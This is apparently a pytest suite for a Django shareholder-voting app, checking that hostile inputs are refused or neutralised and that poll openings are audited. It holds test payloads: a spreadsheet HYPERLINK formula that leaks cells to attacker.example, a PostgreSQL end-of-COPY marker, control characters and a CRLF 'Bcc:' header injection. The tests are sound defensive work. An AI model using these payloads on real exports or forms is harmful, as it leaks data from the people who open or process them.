"""Inputs and exports (issue 12, point 5): what an attacker types never becomes a formula, a
lost register line, a 500 or an unaudited opening. Runs on SQLite and on PostgreSQL (the COPY
path): `DATABASE_URL=postgres://... pytest tests/system/test_inputs.py`."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from core.csv_safe import neutralise
from core.models import AuditEvent
from meetings.models import Holder, Meeting, RegisterSnapshot
from meetings.register_import import register_import
from polls import certification, services
from polls.models import Ballot, Poll, PollStatus, RecordedPoll, RecordedSnapshot
from proposals.models import Proposal
from tests.factories import make_item, make_meeting, make_poll, make_register, make_secretary, make_user, register_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&B2&C2,"Click for details")'


def upload(api: APIClient, content: bytes, *, outstanding: str = "1000000") -> Any:
    api.force_authenticate(make_secretary())
    file = SimpleUploadedFile("register.csv", content, "text/csv")
    return api.post(
        "/api/v1/registers/",
        {"file": file, "record_date": "2025-09-15", "shares_outstanding": outstanding},
        format="multipart",
    )


def nothing_imported() -> bool:
    return not RegisterSnapshot.objects.exists() and not Holder.objects.exists()


# --- Exports ------------------------------------------------------------------------------


def test_the_8k_export_writes_a_formula_title_as_text(client: Client) -> None:
    register = make_register([("H1", "Alice", "alice@example.com", 100)], outstanding=100)
    item = make_item(make_meeting(register), status=PollStatus.CLOSED, title=FORMULA)
    certification.poll_certify(poll=item, actor=make_secretary())
    body = client.get(f"/meetings/{item.meeting_id}/results.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    # After the Item 5.07 header (company, meeting, date) and the proposals' column names.
    assert [row[0] for row in rows if row and row[0].endswith(FORMULA)] == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_are_left_alone(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Invest in xAI") == "Invest in xAI"
    assert neutralise(-5) == -5


# --- Register files -----------------------------------------------------------------------


def test_an_end_of_copy_marker_is_refused_by_its_line_and_the_lines_after_it_are_still_checked(
    api: APIClient,
) -> None:
    content = b"holder,name,email,shares\nH1,Alice,alice@example.com,10\n\\.\nH2,Bob,bob@example.com,x\n"
    response = upload(api, content)
    assert response.status_code == 400, response.content
    errors = response.json()["errors"]
    assert errors[0].startswith("line 3: "), errors
    assert "line 4: shares must be a whole number, found 'x'" in errors
    assert nothing_imported()


def test_an_end_of_copy_marker_in_a_file_with_good_lines_only_is_still_refused(api: APIClient) -> None:
    content = b"holder,name,email,shares\r\nH1,Alice,alice@example.com,10\r\n\\.\r\nH2,Bob,bob@example.com,5\r\n"
    response = upload(api, content)
    assert response.status_code == 400
    assert [error.split(":")[0] for error in response.json()["errors"]] == ["line 3"]
    assert nothing_imported()


@pytest.mark.parametrize(
    ("line", "column"),
    [
        (b"H1,Al\x00ice,alice@example.com,10", "name"),
        (b"H\x001,Alice,alice@example.com,10", "holder"),
        (b"H1,Alice,alice@example.com,1\x000", "shares"),
        (b"H1,Ali\x1bce,alice@example.com,10", "name"),
        (b"H1,Ali\xe2\x80\xa8ce,alice@example.com,10", "name"),
        (b"H1,Alice,alice@exa\xc2\x85mple.com,10", "email"),
        (b"H1,Al\tice,alice@example.com,10", "name"),
    ],
)
def test_a_control_character_in_a_register_line_is_a_400_naming_the_line(
    api: APIClient, line: bytes, column: str
) -> None:
    content = b"holder,name,email,shares\nH0,Zed,zed@example.com,1\n" + line + b"\nH9,Nine,nine@example.com,1\n"
    response = upload(api, content)
    assert response.status_code == 400, response.content
    assert response.json()["errors"] == [f"line 3: control character in {column}"]
    assert nothing_imported()


def test_a_register_line_with_a_nul_imports_nothing_through_the_service() -> None:
    from polls.exceptions import RegisterInvalid

    with pytest.raises(RegisterInvalid) as refused:
        register_import(
            source=io.BytesIO(b"holder,name,email,shares\nH1,A\x00,a@example.com,1\n"),
            record_date=datetime.date(2025, 9, 15),
            shares_outstanding=10,
            actor=None,
        )
    assert refused.value.errors == ["line 2: control character in name"]
    assert nothing_imported()


def test_a_line_break_inside_a_quoted_cell_is_refused_by_the_line_where_its_record_ends(api: APIClient) -> None:
    content = b'holder,name,email,shares\nH0,Zed,zed@example.com,1\nH1,"Alice\nSmith",a@example.com,1\n'
    response = upload(api, content)
    assert response.status_code == 400
    assert response.json()["errors"] == ["line 4: control character in name"]
    assert nothing_imported()


def test_a_megabyte_cell_gets_a_short_answer(api: APIClient) -> None:
    response = upload(api, register_csv([("H1", "Alice", "alice@example.com", "9x" * 500_000)]))
    assert response.status_code == 400
    assert len(response.content) < 2_000
    assert response.json()["errors"][0].startswith("line 2: ")
    assert nothing_imported()


def test_echoed_cells_are_cut_to_eighty_characters(api: APIClient) -> None:
    huge = "9x" * 50_000  # within the CSV reader's field limit, so both paths read it
    rows: list[tuple[str, str, str, int | str]] = [
        ("H1", "Alice", "alice@example.com", huge),
        ("H2", "Bob", "b" * 200 + "@", 5),
        ("H3", "Carol", "carol@example.com", "-" + "1" * 200),
    ]
    response = upload(api, register_csv(rows))
    assert response.status_code == 400
    assert len(response.content) < 2_000
    errors = response.json()["errors"]
    assert errors[0] == f"line 2: shares must be a whole number, found '{huge[:80]}…'"
    assert errors[1] == f"line 3: '{('b' * 200 + '@')[:80]}…' is not a valid e-mail address"
    assert errors[2] == f"line 4: shares must not be negative, found {('-' + '1' * 200)[:80]}…"


def test_a_repeated_long_holder_id_is_cut_in_its_finding() -> None:
    from polls.exceptions import RegisterInvalid

    account = "A" * 5_000
    with pytest.raises(RegisterInvalid) as refused:
        register_import(
            source=io.BytesIO(register_csv([(account, "A", "a@example.com", 1), (account, "B", "b@example.com", 1)])),
            record_date=datetime.date(2025, 9, 15),
            shares_outstanding=10,
            actor=None,
        )
    assert all(len(error) < 300 for error in refused.value.errors), refused.value.errors


def test_a_share_count_too_large_to_store_is_a_line_error_not_a_crash() -> None:
    from polls.exceptions import RegisterInvalid

    with pytest.raises(RegisterInvalid) as refused:
        register_import(
            source=io.BytesIO(register_csv([("H1", "A", "a@example.com", "9" * 20)])),
            record_date=datetime.date(2025, 9, 15),
            shares_outstanding=10,
            actor=None,
        )
    assert refused.value.errors == ["line 2: shares must be at most 18 digits, found 20"]


def test_a_register_over_the_size_limit_is_refused_before_it_is_read(api: APIClient, settings: Any) -> None:
    settings.REGISTER_MAX_BYTES = 4_096
    rows: list[tuple[str, str, str, int | str]] = [(f"H{i}", "Name", f"h{i}@example.com", 1) for i in range(400)]
    response = upload(api, register_csv(rows))
    assert response.status_code == 413
    assert "larger than" in response.json()["detail"]
    assert nothing_imported()


def test_the_service_and_the_form_refuse_a_register_over_the_size_limit(settings: Any) -> None:
    from meetings.forms import RegisterImportForm
    from meetings.register_import import RegisterFileTooLarge

    settings.REGISTER_MAX_BYTES = 100
    content = register_csv([(f"H{i}", "Name", f"h{i}@example.com", 1) for i in range(20)])
    with pytest.raises(RegisterFileTooLarge):
        register_import(
            source=io.BytesIO(content), record_date=datetime.date(2025, 9, 15), shares_outstanding=100, actor=None
        )
    form = RegisterImportForm(
        {"record_date": "2025-09-15", "shares_outstanding": "100"},
        {"file": SimpleUploadedFile("r.csv", content, "text/csv")},
    )
    assert not form.is_valid()
    assert "larger than" in str(form.errors["file"])
    assert nothing_imported()


# --- Single-line fields -------------------------------------------------------------------


@pytest.mark.parametrize("title", ["Invest\r\nBcc: everyone@example.com", "Invest\x00 in xAI", "Tab\tbed"])
def test_a_proposal_title_with_control_characters_is_a_400_and_nothing_is_stored(api: APIClient, title: str) -> None:
    api.force_authenticate(make_user())
    response = api.post(
        "/api/v1/proposals/",
        {"title": title, "summary": "A summary.", "kind": "investment", "counterparty": "xAI"},
        format="json",
    )
    assert response.status_code == 400, response.content
    assert "title" in response.json()
    assert not Proposal.objects.exists()


def test_a_counterparty_with_a_line_break_is_a_400(api: APIClient) -> None:
    api.force_authenticate(make_user())
    response = api.post(
        "/api/v1/proposals/",
        {"title": "Invest", "summary": "A summary.", "kind": "investment", "counterparty": "xAI\nCorp"},
        format="json",
    )
    assert response.status_code == 400
    assert not Proposal.objects.exists()


@pytest.mark.parametrize(
    ("title", "labels"),
    [("Line\nbreak", ["Yes", "No"]), ("Fine", ["Y\r\nes", "No"]), ("Fine", ["Y\tes", "No"]), ("N\x00L", ["a", "b"])],
)
def test_poll_titles_and_option_labels_with_control_characters_are_400s(
    api: APIClient, title: str, labels: list[str]
) -> None:
    api.force_authenticate(make_secretary())
    now = timezone.now()
    response = api.post(
        "/api/v1/polls/",
        {
            "title": title,
            "kind": "public",
            "options": [{"label": label} for label in labels],
            "opens_at": (now + datetime.timedelta(hours=1)).isoformat(),
            "closes_at": (now + datetime.timedelta(days=1)).isoformat(),
        },
        format="json",
    )
    assert response.status_code == 400, response.content
    assert not Poll.objects.exists()


def test_a_meeting_title_with_a_line_break_is_a_400(api: APIClient) -> None:
    register = make_register([("H1", "Alice", "alice@example.com", 1)], outstanding=1)
    api.force_authenticate(make_secretary())
    response = api.post(
        "/api/v1/meetings/", {"title": "AGM\r\n2025", "date": "2025-11-06", "register": register.pk}, format="json"
    )
    assert response.status_code == 400
    assert not Meeting.objects.exists()


def test_services_refuse_control_characters_when_called_directly() -> None:
    from polls.exceptions import InvalidPollData
    from proposals import people_services
    from proposals import services as proposal_services
    from proposals.exceptions import InvalidProposal

    with pytest.raises(InvalidPollData):
        make_poll(title="Two\nlines")
    with pytest.raises(InvalidProposal):
        proposal_services.proposal_create(actor=make_user(), title="Two\nlines", summary="s")
    with pytest.raises(InvalidProposal):
        people_services.director_save(director_user=make_user(), title="Director", interests=["x\rAI"])
    assert not Poll.objects.exists() and not Proposal.objects.exists()


def test_a_proposal_stored_with_a_line_break_is_refused_at_submit_and_stays_a_draft(api: APIClient) -> None:
    proposer = make_user(email="proposer@example.com")
    make_secretary(email="secretary@example.com")
    proposal = services_make_proposal(proposer)
    Proposal.objects.filter(pk=proposal.pk).update(title="Invest\r\nBcc: everyone@example.com")
    api.force_authenticate(proposer)
    response = api.post(f"/api/v1/proposals/{proposal.pk}/transitions/", {"action": "submit"}, format="json")
    assert response.status_code == 400, response.content
    assert "title" in response.json()["detail"]
    assert Proposal.objects.get(pk=proposal.pk).status == "draft"


def services_make_proposal(proposer: Any) -> Proposal:
    from tests.factories import make_proposal

    return make_proposal(proposer)


# --- Ballots ------------------------------------------------------------------------------


def test_a_split_with_an_unknown_key_is_a_400_naming_it(api: APIClient) -> None:
    voter = make_user(email="holder@example.com")
    register = make_register([("H1", "Holder", "holder@example.com", 5_000)], outstanding=5_000)
    item = make_item(make_meeting(register))
    api.force_authenticate(voter)
    response = api.post(
        f"/api/v1/polls/{item.pk}/ballot/", {"split": {"for": "3000", "againts": "2000"}}, format="json"
    )
    assert response.status_code == 400, response.content
    assert "againts" in str(response.json())
    assert not Ballot.objects.exists()


# --- Recorded polls in the admin ----------------------------------------------------------


def post_snapshot(client: Client, percentages: str) -> tuple[RecordedPoll, Any]:
    """As a superuser, add one snapshot with these percentages to a recorded poll in the admin."""
    admin = make_user(username="root", is_staff=True, is_superuser=True)
    recorded = RecordedPoll.objects.create(
        platform="X", url="https://x.com/p/1", author="elonmusk", question="Invest?", options=["Yes", "No"]
    )
    client.force_login(admin)
    response = client.post(
        f"/admin/polls/recordedpoll/{recorded.pk}/change/",
        {
            "platform": "X",
            "url": "https://x.com/p/1",
            "author": "elonmusk",
            "question": "Invest?",
            "options": '["Yes", "No"]',
            "snapshots-TOTAL_FORMS": "1",
            "snapshots-INITIAL_FORMS": "0",
            "snapshots-MIN_NUM_FORMS": "0",
            "snapshots-MAX_NUM_FORMS": "1000",
            "snapshots-0-taken_at_0": "2024-07-30",
            "snapshots-0-taken_at_1": "12:00:00",
            "snapshots-0-total_votes": "958086",
            "snapshots-0-percentages": percentages,
            "snapshots-0-note": "",
            "snapshots-0-recorded_poll": str(recorded.pk),
        },
    )
    return recorded, response


@pytest.mark.parametrize("percentages", ['{"Yes": "abc"}', '["Yes"]', '{"Maybe": "10"}', '{"Yes": "101"}'])
def test_a_bad_snapshot_in_the_admin_is_a_form_error_and_the_pages_keep_working(
    client: Client, percentages: str
) -> None:
    recorded, response = post_snapshot(client, percentages)
    assert response.status_code == 200, response.status_code  # the form again, with the error
    assert "errorlist" in response.content.decode()
    assert not RecordedSnapshot.objects.exists()
    assert client.get(f"/recorded/{recorded.pk}/").status_code == 200
    assert client.get("/api/v1/recorded-polls/").status_code == 200


def test_a_good_snapshot_in_the_admin_is_saved_as_the_api_would(client: Client) -> None:
    recorded, response = post_snapshot(client, '{"Yes": 67.9, "No": "32.1"}')
    assert response.status_code == 302, response.content.decode()[-3000:]
    assert RecordedSnapshot.objects.get().percentages == {"Yes": "67.9", "No": "32.1"}
    assert client.get(f"/recorded/{recorded.pk}/").status_code == 200


# --- Opening is always audited ------------------------------------------------------------


def opened_events(poll: Poll) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(stream=f"poll:{poll.pk}", action="poll_opened"))


def test_patching_a_scheduled_polls_opening_into_the_past_opens_it_on_the_trail(api: APIClient) -> None:
    secretary = make_secretary()
    poll = make_poll(status=PollStatus.SCHEDULED, opens_in=datetime.timedelta(days=1))
    assert opened_events(poll) == []
    api.force_authenticate(secretary)
    past = (timezone.now() - datetime.timedelta(hours=1)).isoformat()
    response = api.patch(f"/api/v1/polls/{poll.pk}/", {"opens_at": past}, format="json")
    assert response.status_code == 200, response.content
    assert Poll.objects.get(pk=poll.pk).status == PollStatus.OPEN
    [event] = opened_events(poll)
    assert event.actor_name == secretary.get_username()


def test_scheduling_a_draft_whose_opening_has_passed_records_the_opening() -> None:
    poll = make_poll(status=PollStatus.DRAFT, opens_in=datetime.timedelta(minutes=-5))
    services.poll_schedule(poll=poll)
    assert Poll.objects.get(pk=poll.pk).status == PollStatus.OPEN
    assert len(opened_events(poll)) == 1


def test_moving_the_opening_in_the_admin_records_the_opening(client: Client) -> None:
    admin = make_user(username="root", is_staff=True, is_superuser=True)
    poll = make_poll(status=PollStatus.SCHEDULED, opens_in=datetime.timedelta(days=1))
    client.force_login(admin)
    past = timezone.localtime(timezone.now() - datetime.timedelta(hours=1))
    closes = timezone.localtime(poll.closes_at)
    response = client.post(
        f"/admin/polls/poll/{poll.pk}/change/",
        {
            "title": poll.title,
            "description": "",
            "opens_at_0": past.strftime("%Y-%m-%d"),
            "opens_at_1": past.strftime("%H:%M:%S"),
            "closes_at_0": closes.strftime("%Y-%m-%d"),
            "closes_at_1": closes.strftime("%H:%M:%S"),
            "allow_change": "on",
            "results_visibility": poll.results_visibility,
            "secret": "on" if poll.secret else "",
            "threshold_numerator": "1",
            "threshold_denominator": "2",
            "threshold_comparator": ">",
            "options-TOTAL_FORMS": "2",
            "options-INITIAL_FORMS": "2",
            "options-MIN_NUM_FORMS": "0",
            "options-MAX_NUM_FORMS": "1000",
            **{
                key: value
                for i, option in enumerate(poll.options.order_by("position"))
                for key, value in {
                    f"options-{i}-id": str(option.pk),
                    f"options-{i}-poll": str(poll.pk),
                    f"options-{i}-label": option.label,
                    f"options-{i}-position": str(option.position),
                }.items()
            },
        },
    )
    assert response.status_code == 302, response.content.decode()[-3000:]
    assert Poll.objects.get(pk=poll.pk).status == PollStatus.OPEN
    [event] = opened_events(poll)
    assert event.actor_name == "root"


def test_the_new_refusals_read_in_italian() -> None:
    from django.utils import translation

    from core.validators import control_characters_message
    from meetings.register_errors import Finding, RegisterError
    from meetings.register_import import RegisterFileTooLarge

    with translation.override("it"):
        control = RegisterError(3, (Finding("control_character", {"column": "name"}),))
        assert str(control) == "riga 3: carattere di controllo in name"
        assert "non è stato importato nulla" in str(RegisterFileTooLarge(256 * 1024 * 1024).message)
        assert control_characters_message(["title"]).startswith("A capo, tabulazioni")


def test_a_bad_snapshot_stored_past_the_checks_breaks_neither_the_page_nor_the_api(client: Client) -> None:
    recorded = RecordedPoll.objects.create(
        platform="X", url="https://x.com/p/1", author="elonmusk", question="Invest?", options=["Yes", "No"]
    )
    moment = timezone.now()
    for minutes, percentages in enumerate([{"Yes": "abc", "No": "32.1"}, ["Yes"], {"Yes": "67.9", "No": "32.1"}]):
        RecordedSnapshot.objects.create(
            recorded_poll=recorded,
            taken_at=moment + datetime.timedelta(minutes=minutes),
            total_votes=1,
            percentages=percentages,
        )
    assert client.get(f"/recorded/{recorded.pk}/").status_code == 200
    response = client.get("/api/v1/recorded-polls/")
    assert response.status_code == 200
    snapshots = response.json()["results"][0]["snapshots"]
    assert [snapshot["percentages"] for snapshot in snapshots] == [{"No": "32.1"}, {}, {"Yes": "67.9", "No": "32.1"}]


def test_the_proposal_form_refuses_a_title_with_a_line_break(client: Client) -> None:
    client.force_login(make_user())
    response = client.post(
        "/proposals/new/",
        {"title": "Invest\r\nBcc: everyone@example.com", "summary": "A summary.", "kind": "investment"},
    )
    assert response.status_code == 400
    assert "control characters" in response.content.decode()
    assert not Proposal.objects.exists()
